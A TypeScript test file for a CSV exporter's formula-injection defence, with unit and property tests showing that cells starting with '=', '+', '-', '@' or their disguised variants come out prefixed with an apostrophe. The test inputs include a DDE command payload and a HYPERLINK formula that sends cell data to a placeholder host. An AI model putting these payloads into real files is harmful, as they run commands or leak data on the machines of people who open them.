import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvOf, harmless } from "./csv";
import type { Cell } from "./columns";

const column = { head: "Title", width: 10, cell: (cell: Cell) => cell };
async function whole(...pages: Cell[][]): Promise<string> {
  let text = "";
  for await (const piece of csvOf([column], (async function* () { yield* pages; })())) text += piece;
  return text;
}

/** Reads CSV as RFC 4180 says, or with another separator as a program does that was set up elsewhere. */
function read(text: string, separator = ","): string[][] {
  const records: string[][] = [];
  let [record, field, quoted]: [string[], string, boolean] = [[], "", false];
  for (let i = 0; i < text.length; i++) {
    const sign = text[i]!;
    if (quoted) {
      if (sign !== '"') field += sign;
      else if (text[i + 1] === '"') field += text[++i];
      else quoted = false;
    } else if (sign === '"' && field === "") quoted = true;
    else if (sign === separator) [field] = ["", record.push(field)];
    else if (sign === "\r" || sign === "\n") {
      if (sign === "\r" && text[i + 1] === "\n") i++;
      records.push([...record, field]);
      [record, field] = [[], ""];
    } else field += sign;
  }
  if (field !== "" || record.length > 0) records.push([...record, field]);
  return records;
}
/** As a spreadsheet looks at a cell: what is seen first decides. */
const isFormula = (cell: string) => /^[=+\-@]/.test(cell.replace(/^[\s\p{Z}\p{Cf}"]+/u, "").normalize("NFKC"));

describe("a cell", () => {
  it.each([
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", '"=1+1"', "'=1+1", "“=1+1”", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "−1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid?"&A1,"x")', "-0", "+43 1 514 36", "\tindented", "\rreturned",
  ])("that would be a formula is text: %j", (text) => {
    expect(harmless(text)[0]).toBe("'");
    expect(harmless(text).slice(1)).toBe(text.replace(/([\t\r\n])(?==)/g, "$1'"));
  });

  it("begins no formula in the middle, where a program takes another sign for the separator", async () => {
    const text = await whole(["A note;=1+1", 'A note;"=1+1', "A note\n=1+1", "A note\t@SUM(A1)"]);
    for (const separator of [",", ";", "\t"]) expect(read(text, separator).flat().filter(isFormula), separator).toEqual([]);
  });

  it.each(["O’Brien", "null", "undefined", "true", "1e5", "A - B", "a=b", "x@un.invalid", "S/2024/1/Add.1", "رسالة", "书", "🕊", "", "a; b"])("that is none stands as it was written: %j", (text) => {
    expect(harmless(text)).toBe(text);
  });

  it("that holds a number or a date is not touched", async () => {
    expect(read((await whole([-5, { day: "2026-11-27" }, { moment: "2026-11-27T10:00:00.000Z" }, null])).slice(1))).toEqual([["Title"], ["-5"], ["2026-11-27"], ["2026-11-27T10:00:00.000Z"], [""]]);
  });
});

describe("a file of comma-separated values", () => {
  it("begins with the mark of UTF-8 and ends its lines as RFC 4180 says", async () => {
    expect(await whole(["a"], [], ['b "quoted", with a comma'])).toBe('\ufeff"Title"\r\n"a"\r\n"b ""quoted"", with a comma"\r\n');
  });

  it("gives every text back as it was, but for the apostrophes", () =>
    fc.assert(fc.asyncProperty(fc.array(fc.string({ unit: "grapheme", minLength: 1 }), { minLength: 1, maxLength: 5 }), async (texts) => {
      expect(read((await whole(texts)).slice(1)).slice(1)).toEqual(texts.map((text) => [harmless(text)]));
    })));

  it("holds no formula, whatever was written", () => {
    const sign = fc.constantFrom("=", "+", "-", "@", "＝", ";", ",", "\t", "\r", "\n", '"', " ", "\u200b", "x", "1");
    return fc.assert(fc.asyncProperty(fc.array(sign, { maxLength: 12 }), async (signs) => {
      expect(read((await whole([signs.join("")])).slice(1)).flat().filter(isFormula)).toEqual([]);
    }), { numRuns: 2_000 });
  });
});
